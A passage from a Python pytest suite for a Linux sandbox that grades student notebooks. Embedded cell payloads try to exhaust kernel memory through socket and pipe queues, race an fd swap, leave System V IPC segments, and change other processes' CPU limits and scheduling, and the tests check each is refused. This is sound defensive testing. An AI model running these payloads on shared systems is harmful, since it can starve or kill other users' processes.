os.write(shm, b"in the worker's own /dev/shm")
os.unlink("/dev/shm/passed")
sent = socket.send_fds(a, [b"fds"], [r, w, shm])
os.close(shm)
message, fds, _, _ = socket.recv_fds(b, 16, 4)
os.write(fds[1], b"through")
print(sent, message.decode(), len(fds), os.read(r, 7).decode(), os.pread(fds[2], 6, 0).decode())
"""
# A thread rewrites the fd of the message between a pipe and a memfd while the main thread sends it: a keeper that read
# the message and let the call go on would pass the memfd the thread put back after its read.
SWAPS_IN_FLIGHT = """
import ctypes, os, socket, stat, threading, time
libc = ctypes.CDLL(None, use_errno=True)
a, b = socket.socketpair()
r, w = os.pipe()
memfd = os.memfd_create("swapped")
os.write(memfd, b"x" * 4096)
class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]
byte = ctypes.create_string_buffer(b"f", 1)
vector = Iovec(ctypes.cast(byte, ctypes.c_void_p), 1)
control = (ctypes.c_uint8 * 24)()
ctypes.memmove(control, (16 + 4).to_bytes(8, "little") + (1).to_bytes(4, "little") + (1).to_bytes(4, "little"), 16)
fd_slot = ctypes.c_int.from_buffer(control, 16)
fd_slot.value = r
message = Msghdr(None, 0, ctypes.pointer(vector), 1, ctypes.cast(control, ctypes.c_void_p), 24, 0)
stop = False
def swap():
    while not stop:
        fd_slot.value = memfd
        fd_slot.value = r
threading.Thread(target=swap, daemon=True).start()
sent = refused = memfds = tries = 0
deadline = time.monotonic() + 12
# 300 tries at least, then on until both outcomes were seen: on a loaded machine the swapping thread may not run
# while the keeper reads the message, so a fixed number of tries can see the pipe only.
while tries < 300 or not (sent and refused) and time.monotonic() < deadline:
    tries += 1
    if libc.sendmsg(a.fileno(), ctypes.byref(message), 0) == 1:
        sent += 1
        _, fds, _, _ = socket.recv_fds(b, 1, 1)
        memfds += sum(stat.S_ISREG(os.fstat(fd).st_mode) for fd in fds)
        for fd in fds:
            os.close(fd)
    else:
        refused += ctypes.get_errno() == 1
stop = True
print(f"sent:{bool(sent)} refused:{bool(refused)} memfds:{memfds}")
"""


def _fds_in_flight_open(isolation: list[str]) -> bool:
    return any("fds passed NOT bounded" in line for line in isolation)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
@pytest.mark.parametrize("processes", [False, True], ids=["alone", "with processes"])
def test_memfds_in_flight_in_a_socket_count_in_the_scratch_limit(processes):
    """4 memfds of 60 MiB sent on a socketpair to itself and closed: held by the socket's queue, in no fd table, 240 MiB
    against limits of 64 and 200 MiB, and the cell ran to its end (up to ``RLIMIT_NOFILE`` of them, 64 MiB each: the
    kernel's bound of files in flight). Safe: where the lab allows no processes, the seccomp filter refuses ``sendmsg``
    and ``sendmmsg`` (``_SEND_FDS_CALLS``; the worker's listener goes to the keeper by ``pidfd_getfd``), counted by the
    keeper; where it does (lab 03), the keeper makes each ``sendmsg`` itself from what it read once and the fds it took
    (:class:`~bpe_ref.course.trusted.worker.keeper._Sends`), and refuses a memfd or any regular file but those of the
    worker's own /dev/shm, whose tmpfs bounds them. Open where the kernel lacks ``pidfd_getfd`` (before Linux 5.6):
    the isolation line says so."""
    with Sandbox(Policy(scratch_mb=64, memory_mb=200, cell_timeout=20, allow_processes=processes)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        if _fds_in_flight_open(box.isolation):
            pytest.xfail("open here: sendmsg allowed (no pidfd_getfd, Linux before 5.6)")
        run = box.run_cell(IN_FLIGHT, "in flight")
        box.close()
        report, isolation = box.behaviour(), box.isolation
    assert not run.ok and "in flight" not in run.stdout, run
    assert run.error and run.error.get("ename") == "PermissionError", run
    if any("refused calls counted by the keeper" in line for line in isolation):
        name = "sendmsg(SCM_RIGHTS of a memfd or a file outside a private /dev/shm)" if processes else "sendmsg"
        assert report["refused"].get(name, 0) >= 1, report


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
def test_the_keeper_passes_pipes_and_files_of_the_worker_s_own_dev_shm():
    """Lab 03's multiprocessing passes fds so (the forkserver its children's pipes; a ``Value`` made under spawn or
    forkserver its arena, a file of /dev/shm unlinked): the keeper sends them, with the message's bytes, as the
    kernel would have (:class:`~bpe_ref.course.trusted.worker.keeper._Sends`)."""
    with Sandbox(Policy(cell_timeout=20, allow_processes=True)) as box:
        if not confined(box) or _fds_in_flight_open(box.isolation):
            pytest.skip(f"the keeper makes no sends here ({'; '.join(box.isolation)})")
        run = box.run_cell(PASSES_FDS, "passes fds")
        private_shm = any("a private tmpfs" in line for line in box.isolation)
    if not private_shm:  # the machine's /dev/shm is no bound: its files are refused in flight
        assert not run.ok and run.error.get("ename") == "PermissionError", run
        return
    assert run.ok and run.stdout.strip() == "3 fds 3 through in the", run


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
def test_a_thread_that_swaps_the_fd_after_the_keeper_read_it_passes_no_memfd():
    """A message whose fd a thread swaps between a pipe and a memfd as it is sent, 300 times: the keeper sends the fd it
    read and took, never the one the memory holds after, so some sends go (the pipe) and some are refused (the memfd),
    and no memfd is received."""
    with Sandbox(Policy(cell_timeout=20, allow_processes=True)) as box:
        if not confined(box) or _fds_in_flight_open(box.isolation):
            pytest.skip(f"the keeper makes no sends here ({'; '.join(box.isolation)})")
        run = box.run_cell(SWAPS_IN_FLIGHT, "swaps in flight")
    assert run.ok and run.stdout.split() == ["sent:True", "refused:True", "memfds:0"], run


WAITS_TO_SEND = """
import socket, struct, threading, time
a, b = socket.socketpair()
a.setblocking(False)
try:
    while True:
        a.send(b"x" * 65536)
except BlockingIOError:
    pass
a.setblocking(True)  # full: a blocking sendmsg waits until the other end reads
def drain():
    time.sleep(0.3)
    b.setblocking(False)
    try:
        while True:
            b.recv(1 << 20)
    except BlockingIOError:
        pass
threading.Thread(target=drain).start()
started = time.monotonic()
print(a.sendmsg([b"y" * 10]), time.monotonic() - started > 0.2)
c, d = socket.socketpair()
c.setblocking(False)
try:
    while True:
        c.send(b"x" * 65536)
except BlockingIOError:
    pass
c.setblocking(True)
c.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("=qq", 0, 200000))  # 0.2 s, then EAGAIN
try:
    c.sendmsg([b"y"])
except BlockingIOError:
    print("timed out")
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
def test_a_send_the_keeper_makes_waits_as_the_kernel_s_would():
    """A blocking sendmsg on a full socket waits until the other end reads, and one with ``SO_SNDTIMEO`` gives up at
    it, as the kernel's own would: the keeper waits in a thread of its own (:class:`~bpe_ref.course.trusted.worker.keeper._Sends`)."""
    with Sandbox(Policy(cell_timeout=20, allow_processes=True)) as box:
        if not confined(box) or _fds_in_flight_open(box.isolation):
            pytest.skip(f"the keeper makes no sends here ({'; '.join(box.isolation)})")
        run = box.run_cell(WAITS_TO_SEND, "waits to send")
    assert run.ok and run.stdout.split() == ["10", "True", "timed", "out"], run


# The bytes queued in a unix socket or a pipe are kernel memory, in no process's resident memory and under no RLIMIT_AS:
# held in fd tables or in flight, 1,000 sockets filled are 222 MiB. The trusted side counts them with the worker's memory
# (measure_worker.queued_bytes: each socket's queue read from the kernel, sock_diag; a pipe at its capacity; those the
# keeper sent, recorded as it sends them), the filter keeps every buffer at the kernel's default size, and a process holds
# at most 1,024 fds.
QUEUED_IN_SOCKETS = """
import socket, time
held, queued = [], 0
for _ in range(1000):  # the receiving ends: what the sender queued stays there once it is closed
    a, b = socket.socketpair()
    a.setblocking(False)
    try:
        while True:
            queued += a.send(b"x" * 65536)
    except BlockingIOError:
        pass
    a.close()
    held.append(b)
time.sleep(2)
print("queued", queued >> 20, "MiB")
"""
QUEUED_IN_SOCKET_PAIRS = """
import os, socket, time
filled, done = os.pipe()
for _ in range(3):  # each process holds 400 socketpairs filled (some 230 KiB each): 270 MiB in the three
    if os.fork() == 0:
        held = []
        for _ in range(400):
            a, b = socket.socketpair()
            a.setblocking(False)
            try:
                while True:
                    a.send(b"x" * 65536)
            except BlockingIOError:
                pass
            held.append((a, b))
        os.write(done, b"1")
        time.sleep(30)
        os._exit(0)
# Printed once all three hold their pairs, then 4 s later (not after a fixed time: on a loaded machine the three took
# longer than 4 s to fill them, and the cell ended before the watch could see them all)
for _ in range(3):
    os.read(filled, 1)
time.sleep(4)
print("queued in socketpairs")
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
@pytest.mark.parametrize("held", ["receivers", "pairs"])
def test_bytes_queued_in_sockets_count_in_the_memory_limit(held):
    """1,000 socketpairs, each filled until a send would block (some 220 KiB each), their receiving ends held (the
    senders closed), or 1,200 pairs held whole by three processes: 222 MiB or more of kernel memory that neither
    ``RLIMIT_AS`` nor the resident memory of the worker's processes counts, against a limit of 200 MiB. The trusted side
    reads each socket's queue from the kernel (``sock_diag``) ten times a second and stops the worker."""
    code, processes = (QUEUED_IN_SOCKETS, False) if held == "receivers" else (QUEUED_IN_SOCKET_PAIRS, True)
    with Sandbox(Policy(scratch_mb=64, memory_mb=200, cell_timeout=20, allow_processes=processes)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(code, "queued in sockets")
    assert not run.ok and "queued" not in run.stdout, run
    assert "queued in sockets and pipes" in run.error["evalue"], run


QUEUED_IN_FLIGHT = """
import socket, time
carrier, kept = socket.socketpair()
queued = 0
for _ in range(4):  # 250 filled sockets a message, in flight once sent and closed: 1,000 of them, 220 MiB
    ends = []
    for _ in range(250):
        a, b = socket.socketpair()
        a.setblocking(False)
        try:
            while True:
                queued += a.send(b"x" * 65536)
        except BlockingIOError:
            pass
        a.close()
        ends.append(b)
    socket.send_fds(carrier, [b"x"], [end.fileno() for end in ends])
    for end in ends:
        end.close()
time.sleep(2)
print("in flight", queued >> 20, "MiB")
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
def test_bytes_queued_in_sockets_in_flight_count_in_the_memory_limit():
    """1,000 sockets filled, sent on a socketpair to itself four messages of 250 and closed: in flight, in no process's fd
    table, 220 MiB against a limit of 200 MiB. The keeper records each socket and pipe it sends
    (:meth:`~bpe_ref.course.trusted.worker.keeper._Sends.record`), and the trusted side counts their queues."""
    with Sandbox(Policy(scratch_mb=64, memory_mb=200, cell_timeout=20, allow_processes=True)) as box:
        if not confined(box) or _fds_in_flight_open(box.isolation):
            pytest.skip(f"the keeper makes no sends here ({'; '.join(box.isolation)})")
        run = box.run_cell(QUEUED_IN_FLIGHT, "queued in flight")
    assert not run.ok and "in flight" not in run.stdout, run
    assert "queued in sockets and pipes" in run.error["evalue"], run


PIPES_IN_FLIGHT = """
import os, socket, time
for _ in range(2):  # resident: with the worker's own, some 225 MiB of 256 in three processes
    if os.fork() == 0:
        resident = bytearray(90 << 20)
        for at in range(0, len(resident), 4096):
            resident[at] = 1
        time.sleep(30)
        os._exit(0)
time.sleep(1)
AGAIN = False  # each message sent again on another socketpair, read there: the first still in flight
carrier, kept = socket.socketpair()
other, other_kept = socket.socketpair()
# 250 filled pipes a message (125 sent again, so that those held before a send stay below the limit), in flight once
# sent and closed: 1,000 (62 MiB), or 750 (47 MiB) sent again
BATCH, ROUNDS = (125, 6) if AGAIN else (250, 4)
for _ in range(ROUNDS):
    ends = []
    for _ in range(BATCH):
        r, w = os.pipe()
        os.set_blocking(w, False)
        try:
            while True:
                os.write(w, b"x" * 65536)
        except BlockingIOError:
            pass
        os.close(w)
        ends.append(r)
    socket.send_fds(carrier, [b"x"], ends)
    if AGAIN:
        socket.send_fds(other, [b"y"], ends)
        for received in socket.recv_fds(other_kept, 1, BATCH)[1]:
            os.close(received)
    for end in ends:
        os.close(end)
time.sleep(2)
print("pipes in flight")
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
@pytest.mark.parametrize("again", [False, True], ids=["sent once", "sent again and read there"])
def test_bytes_queued_in_pipes_in_flight_count_in_the_memory_limit(again):
    """Some 225 MiB resident (three processes) and 1,000 pipes filled, sent on a socketpair to itself and closed (62 MiB
    in flight, in no process's fd table), against a limit of 256 MiB: each pipe the keeper sent counts its capacity while
    the socket it went to holds bytes not read; 750 sent again to a socket that reads them are still in flight in the
    first (a record for each socket a pipe went to)."""
    with Sandbox(Policy(scratch_mb=64, memory_mb=256, cell_timeout=20, allow_processes=True)) as box:
        if not confined(box) or _fds_in_flight_open(box.isolation):
            pytest.skip(f"the keeper makes no sends here ({'; '.join(box.isolation)})")
        run = box.run_cell(PIPES_IN_FLIGHT.replace("AGAIN = False", f"AGAIN = {again}"), "pipes in flight")
    assert not run.ok and "pipes in flight" not in run.stdout, run
    assert "queued in sockets and pipes" in run.error["evalue"], run


TOO_MANY_IN_FLIGHT = """
import os, socket
carrier, kept = socket.socketpair()
sent = 0
try:
    for _ in range(5):  # 1,100 empty pipes in flight, never received
        pipes = [os.pipe() for _ in range(220)]
        try:
            socket.send_fds(carrier, [b"x"], [r for r, _ in pipes])
        finally:
            for r, w in pipes:
                os.close(r)
                os.close(w)
        sent += len(pipes)
    print("sent", sent)
except OSError as error:
    print("refused after", sent, error.errno)
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
def test_the_keeper_sends_no_more_files_than_it_records_in_flight():
    """The keeper records each socket and pipe it sends before it sends it (1,024 slots, freed once the file is no longer
    in flight): a message past them is refused with the kernel's own error for too many files in flight, never sent
    unrecorded."""
    with Sandbox(Policy(cell_timeout=20, allow_processes=True)) as box:
        if not confined(box) or _fds_in_flight_open(box.isolation):
            pytest.skip(f"the keeper makes no sends here ({'; '.join(box.isolation)})")
        run = box.run_cell(TOO_MANY_IN_FLIGHT, "too many in flight")
        box.close()
        report = box.behaviour()
    assert run.ok and run.stdout.split() == ["refused", "after", "880", str(errno.ETOOMANYREFS)], run
    assert report["refused"].get("sendmsg(SCM_RIGHTS of more files than the keeper records in flight)") == 1, report


QUEUED_IN_PENDING = """
import socket, time
listener = socket.socket(socket.AF_UNIX)
listener.bind("pending.sock")
listener.listen(1000)
for _ in range(1000):  # connections never accepted, each filled by its client, which closes: 220 MiB in the listener's
    client = socket.socket(socket.AF_UNIX)
    client.connect("pending.sock")
    client.setblocking(False)
    try:
        while True:
            client.send(b"x" * 65536)
    except BlockingIOError:
        pass
    client.close()
time.sleep(2)
print("queued in pending connections")
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
def test_bytes_queued_in_connections_not_accepted_count_in_the_memory_limit():
    """1,000 connections to a listener of the worker's, never accepted, each filled by its client, which then closes: the
    listener alone is held, and the kernel shows no queue of its pending connections (``sock_diag`` gives them no inode),
    220 MiB against a limit of 200 MiB. Each counts full."""
    with Sandbox(Policy(scratch_mb=64, memory_mb=200, cell_timeout=30, allow_processes=True)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(QUEUED_IN_PENDING, "queued in pending connections")
    assert not run.ok and "queued in pending" not in run.stdout, run
    assert "queued in sockets and pipes" in run.error["evalue"], run


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and sock_diag are Linux's")
def test_a_held_socket_the_kernels_dump_skips_is_still_counted(tmp_path, monkeypatch):
    """The kernel's dump of its unix sockets is read in parts, each resumed at a place in its table: a socket that moves
    up as others close meanwhile (other gradings on the machine) is skipped by that dump. A listener so skipped, with
    connections queued in it, still counts them (it is asked for by its inode): once, CI's grading of
    QUEUED_IN_PENDING saw it under its limit."""
    from bpe_ref.course.trusted import measure_worker

    if measure_worker.unix_sockets() is None:
        pytest.skip("the kernel gives no sock_diag here")
    import socket

    with contextlib.ExitStack() as stack:
        listener = stack.enter_context(socket.socket(socket.AF_UNIX))
        listener.bind(str(tmp_path / "pending.sock"))
        listener.listen(8)
        for _ in range(3):
            client = socket.socket(socket.AF_UNIX)
            client.connect(str(tmp_path / "pending.sock"))
            client.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    client.send(b"x" * 65536)
            client.close()
        skipped = os.fstat(listener.fileno()).st_ino & 0xFFFFFFFF
        buffer = measure_worker.unix_sockets(skipped)[skipped][5]  # its send buffer: each pending connection counts twice it
        whole = measure_worker.queued_bytes(os.getpid(), with_root=True)
        dump = measure_worker.unix_sockets

        def dump_that_skips(inode: int = 0):
            table = dump(inode)
            return {number: row for number, row in table.items() if number != skipped} if table and not inode else table

        monkeypatch.setattr(measure_worker, "unix_sockets", dump_that_skips)
        assert skipped not in dump_that_skips()
        with_the_skip = measure_worker.queued_bytes(os.getpid(), with_root=True)
    assert whole is not None and with_the_skip is not None
    assert whole[0] >= 3 * 2 * buffer and with_the_skip[0] >= 3 * 2 * buffer, (whole, with_the_skip, buffer)


QUEUED_IN_PIPES = """
import os, time
for _ in range(4):  # each process holds 1,000 pipes' read ends, each filled (64 KiB): 250 MiB in the four
    if os.fork() == 0:
        held = []
        for _ in range(1000):
            r, w = os.pipe()
            os.set_blocking(w, False)
            try:
                while True:
                    os.write(w, b"x" * 65536)
            except BlockingIOError:
                pass
            os.close(w)
            held.append(r)
        time.sleep(30)
        os._exit(0)
time.sleep(4)
print("queued in pipes")
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
def test_bytes_queued_in_pipes_count_in_the_memory_limit():
    """Four processes, each holding 1,000 pipes filled (64 KiB each, the read end alone): 250 MiB of kernel memory
    against a limit of 200 MiB, while the processes' resident memory is some tens of MiB. Each pipe held counts its
    capacity."""
    with Sandbox(Policy(scratch_mb=64, memory_mb=200, cell_timeout=20, allow_processes=True)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(QUEUED_IN_PIPES, "queued in pipes")
    assert not run.ok and "queued in pipes" not in run.stdout, run
    assert "queued in sockets and pipes" in run.error["evalue"], run


BUFFERS_ENLARGED = """
import fcntl, os, socket
a, b = socket.socketpair()
r, w = os.pipe()
outcomes = []
for name, option in (("SO_SNDBUF", 7), ("SO_RCVBUF", 8), ("SO_SNDBUFFORCE", 32), ("SO_RCVBUFFORCE", 33)):
    try:
        a.setsockopt(socket.SOL_SOCKET, option, 1 << 24)
        outcomes.append(f"{name}:set")
    except PermissionError:
        outcomes.append(f"{name}:refused")
    except OSError as error:  # the FORCE ones need CAP_NET_ADMIN: refused by the kernel, not the sandbox
        outcomes.append(f"{name}:{error.errno}")
try:
    fcntl.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ
    outcomes.append("F_SETPIPE_SZ:set")
except PermissionError:
    outcomes.append("F_SETPIPE_SZ:refused")
a.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)  # other options: allowed
print(*outcomes, fcntl.fcntl(w, 1032))  # F_GETPIPE_SZ
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
@pytest.mark.parametrize("processes", [False, True])
def test_a_socket_s_or_a_pipe_s_buffer_cannot_be_made_larger(processes):
    """A pipe made 1 MiB (``F_SETPIPE_SZ``), or a socket's send buffer past the default, holds more than the trusted side
    counts it for where it cannot read it: refused by the seccomp filter (counted by the keeper where it answers)."""
    with Sandbox(Policy(cell_timeout=20, allow_processes=processes)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(BUFFERS_ENLARGED, "buffers enlarged")
        box.close()
        report, isolation = box.behaviour(), box.isolation
    assert run.ok, run
    *outcomes, capacity = run.stdout.split()
    assert outcomes == ["SO_SNDBUF:refused", "SO_RCVBUF:refused", "SO_SNDBUFFORCE:refused", "SO_RCVBUFFORCE:refused",
                        "F_SETPIPE_SZ:refused"], run
    # At most the default 16 pages: the kernel gives a new pipe 2 pages instead once the user's pipes hold more than
    # fs/pipe-user-pages-soft (the machine's other processes of the same uid count there too).
    assert int(capacity) <= 16 * os.sysconf("SC_PAGE_SIZE"), run
    if any("refused calls counted by the keeper" in line for line in isolation):
        assert report["refused"].get("setsockopt(SO_SNDBUF)") == 1 and report["refused"].get("fcntl(F_SETPIPE_SZ)") == 1, report


MANY_FDS = """
import os, resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
try:
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard + 1, hard + 1))
    raised = "raised"
except (ValueError, OSError):
    raised = "kept"
held = []
try:
    for _ in range(2000):
        held.append(os.open(os.devnull, os.O_RDONLY))
except OSError as error:
    stopped = error.errno
print(soft, hard, raised, len(held) + 3 <= hard, stopped)
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
def test_a_worker_s_process_holds_at_most_1024_fds():
    """Each fd may hold a socket's or a pipe's queue, which the trusted side reads ten times a second: a process of the
    worker's holds at most 1,024 (``RLIMIT_NOFILE``, hard: it cannot raise it), not the machine's default (some 20,000
    here, gigabytes of queues)."""
    with Sandbox(Policy(cell_timeout=20)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(MANY_FDS, "many fds")
    assert run.ok, run
    soft, hard, raised, within, stopped = run.stdout.split()
    assert int(hard) <= 1024 and int(soft) <= int(hard) and raised == "kept" and within == "True", run
    assert int(stopped) == errno.EMFILE, run


# ---- 54. memory and messages that outlive the worker: System V IPC, the kernel's keyrings ----------------------------------
#
# Every limit of a worker's memory and storage is of its processes (RLIMIT_AS, their resident memory together) or of its
# scratch folder (its files, those held open unlinked: section 53), and closing ends them all. A System V shared memory
# segment is in no folder and, once detached, in no process: it stays in the machine's memory after the worker's closing,
# until someone removes it; so do message queues and semaphores, and a key added to the account's keyring, which every
# grading of that account (a classmate's) can read. Python's standard library uses none of them (multiprocessing's
# semaphores are POSIX ones, files of /dev/shm; POSIX message queues Landlock refuses already, their folder not allowed).
LEFT_IN_IPC = """
import ctypes, errno, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype, libc.shmat.argtypes = ctypes.c_void_p, [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
libc.syscall.restype = ctypes.c_long
ADD_KEY, KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
outcomes = []
for _ in range(2):
    shmid = libc.shmget(0, 32 << 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    if shmid < 0:
        outcomes.append("shmget:" + errno.errorcode[ctypes.get_errno()])
        break
    address = libc.shmat(shmid, None, 0)
    ctypes.memset(address, 1, 32 << 20)  # resident, then detached: in no process of the worker's
    libc.shmdt(address)
    outcomes.append(f"shm:{shmid}")
for kind, made in (("msg", libc.msgget(0, 0o1600)), ("sem", libc.semget(0, 1, 0o1600))):
    outcomes.append(f"{kind}:{made}" if made >= 0 else f"{kind}get:" + errno.errorcode[ctypes.get_errno()])
key = libc.syscall(ADD_KEY, b"user", b"answers", b"kept for the next", 17, ctypes.c_int(-4))  # the user's keyring
outcomes.append("add_key:" + errno.errorcode[ctypes.get_errno()] if key < 0 else "key:made")
if key >= 0:
    libc.syscall(KEYCTL, 21, ctypes.c_long(key))  # KEYCTL_INVALIDATE: this test leaves none behind
print(*outcomes)
"""
IPC_REMOVERS = {"shm": "shmctl", "msg": "msgctl", "sem": "semctl"}


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="seccomp and System V IPC here are Linux's")
@pytest.mark.parametrize("processes", [False, True], ids=["alone", "with processes"])
def test_memory_left_in_system_v_ipc_does_not_outlive_the_worker(processes):
    """A cell that made two System V shared memory segments of 32 MiB, filled and detached them, a message queue, a
    semaphore and a key in the account's keyring, and ran to its end: the segments were still in the machine's memory
    after the sandbox closed (``ipcs``), outside every limit of the worker's (RLIMIT_AS counts a segment only while
    attached; each of 4,096 segments may be as large as it): a cell could leave the machine without memory, the OOM
    killer's choice of victims then, a classmate's grading among them; and the queue and the keyring carried what one
    grading left to the next (a table of answers). Safe: the seccomp filter refuses System V IPC and the keyring calls
    (``_PERSISTENT_CALLS``), counted by the keeper: nothing is made, nothing outlives the worker."""
    import ctypes

    outcomes: list[str] = []
    try:
        with Sandbox(Policy(cell_timeout=20, allow_processes=processes)) as box:
            if not confined(box):
                pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
            run = box.run_cell(LEFT_IN_IPC, "left in ipc")
            outcomes = run.stdout.split()
            box.close()
            report, isolation = box.behaviour(), box.isolation
    finally:  # what the cell made, removed here (IPC_RMID), so that a failure of this test leaves nothing behind
        libc = ctypes.CDLL(None, use_errno=True)
        for outcome in outcomes:
            kind, _, number = outcome.partition(":")
            if kind in IPC_REMOVERS and number.isdigit():
                getattr(libc, IPC_REMOVERS[kind])(int(number), 0, None)
    refused = "EPERM"
    assert run.ok and outcomes == [f"shmget:{refused}", f"msgget:{refused}", f"semget:{refused}", f"add_key:{refused}"], run
    assert any("no System V IPC or keyrings" in line for line in isolation), isolation
    if any("refused calls counted by the keeper" in line for line in isolation):
        assert all(report["refused"].get(name, 0) >= 1 for name in ("shmget", "msgget", "semget", "add_key")), report


# ---- 55. another process's limits and scheduling: the grading process's, a classmate's ------------------------------------
#
# The kernel lets a process set the resource limits (prlimit), priority (setpriority), CPU affinity, scheduling policy and
# I/O priority of any process of the same user, with no ptrace access, so Landlock's scope of ptrace and signals does not
# reach them: the grading process (nbgrader's, which grades the notebooks after this one), the keeper, and with ``--jobs``
# the classmates' gradings and their workers, all the grading account's.
SETS_ANOTHER_PROCESS = """
import ctypes, errno, os, platform, resource
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
IOPRIO_SET = {"x86_64": 251, "aarch64": 30}[platform.machine()]
victim, outcomes = VICTIM, []

def tried(name, result):
    outcomes.append(f"{name}:{'done' if result == 0 else errno.errorcode[ctypes.get_errno()]}")

class Rlimit(ctypes.Structure):
    _fields_ = [("cur", ctypes.c_uint64), ("max", ctypes.c_uint64)]

tried("prlimit", libc.prlimit(ctypes.c_int(victim), resource.RLIMIT_CPU, ctypes.byref(Rlimit(1, 1)), None))
tried("setpriority", libc.setpriority(os.PRIO_PROCESS, victim, 19))
tried("setpriority-group", libc.setpriority(os.PRIO_PGRP, victim, 19))
tried("sched_setaffinity", libc.sched_setaffinity(victim, 8, ctypes.byref(ctypes.c_uint64(1))))
tried("sched_setscheduler", libc.sched_setscheduler(victim, os.SCHED_IDLE, ctypes.byref(ctypes.c_int(0))))
tried("ioprio_set", libc.syscall(IOPRIO_SET, 1, victim, 3 << 13))  # IOPRIO_WHO_PROCESS, the idle class
# its own limits and affinity, as before (its own priority: section 127)
resource.setrlimit(resource.RLIMIT_NOFILE, (1000, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
os.sched_setaffinity(0, os.sched_getaffinity(0))
print(*outcomes, "own:done")
"""
OTHER_PROCESS_CALLS = ("prlimit", "setpriority", "setpriority-group", "sched_setaffinity", "sched_setscheduler", "ioprio_set")


def _scheduling(pid: int) -> tuple:
    import resource

    return (resource.prlimit(pid, resource.RLIMIT_CPU), os.getpriority(os.PRIO_PROCESS, pid), os.sched_getaffinity(pid),
            os.sched_getscheduler(pid))


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="seccomp and prlimit are Linux's")
@pytest.mark.parametrize("processes", [False, True], ids=["alone", "with processes"])
def test_a_cell_sets_no_other_process_s_limits_or_scheduling(processes):
    """A cell that set, on a process of the grading account outside its sandbox (here a sleeper standing for the grading
    process, in a session of its own), RLIMIT_CPU to 1 s (the process killed by SIGXCPU: the grading, and every notebook
    after it; with ``--jobs``, a classmate's), nice 19, one CPU, SCHED_IDLE and idle I/O, and its group's priority: each
    was done. Safe: the seccomp filter lets prlimit64, sched_setaffinity and ioprio_set act on the caller alone, pid 0
    (``_OWN_ONLY_CALLS``), and refuses any scheduling class or priority (``_SCHEDULING_CALLS``, section 127): the others
    are refused, counted by the keeper. The cell's own limits and affinity are set as before."""
    import subprocess

    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"], start_new_session=True)
    try:
        before = _scheduling(victim.pid)
        with Sandbox(Policy(cell_timeout=20, allow_processes=processes)) as box:
            if not confined(box):
                pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
            run = box.run_cell(SETS_ANOTHER_PROCESS.replace("VICTIM", str(victim.pid)), "sets another process")
            box.close()
            report, isolation = box.behaviour(), box.isolation
        after = _scheduling(victim.pid)
    finally:
        victim.kill()
        victim.wait()
    assert run.ok and run.stdout.split() == [f"{name}:EPERM" for name in OTHER_PROCESS_CALLS] + ["own:done"], run
    assert after == before, (before, after)
    assert any("no other process's limits or scheduling" in line for line in isolation), isolation
    if any("refused calls counted by the keeper" in line for line in isolation):
        assert all(report["refused"].get(f"{name} of another process", 0) >= 1 for name in
                   ("prlimit64", "sched_setaffinity", "ioprio_set")), report
        assert all(report["refused"].get(f"{name} (its scheduling or priority)", 0) >= 1 for name in
                   ("setpriority", "sched_setscheduler")), report


# ---- 56. the grading user's capabilities, held by the worker: a grading run as root ------------------------------------------
#
# Landlock and seccomp hold whoever runs them, root too, but they leave the calls whose only check is a capability: a
# grading run as root (in a container, as this machine's) gave a worker of a lab without processes every capability
# (lab 03's worker drops those of its user namespace): reboot (CAP_SYS_BOOT), the clock (CAP_SYS_TIME), kernel modules
